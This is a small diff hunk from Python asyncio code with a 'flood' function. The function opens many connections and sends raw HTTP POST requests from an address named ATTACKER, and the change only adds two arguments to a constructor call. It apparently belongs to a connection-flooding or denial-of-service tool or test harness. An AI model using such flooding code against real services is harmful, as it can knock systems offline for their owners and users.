@@ -80,7 +80,7 @@ async def flood(url: str, connections: int) -> None:
         head = f"POST {PATH} HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Type: application/json\r\n"
         request = f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode()
         await loop.create_connection(
-            lambda request=request: Caller(request, Tally()),  # type: ignore[misc]
+            lambda request=request: Caller(request, Tally(), 0.0, 0.0),  # type: ignore[misc]
             parts.hostname or "", parts.port or 80, local_addr=(ATTACKER, 0),
         )  # fmt: skip
     await asyncio.Event().wait()
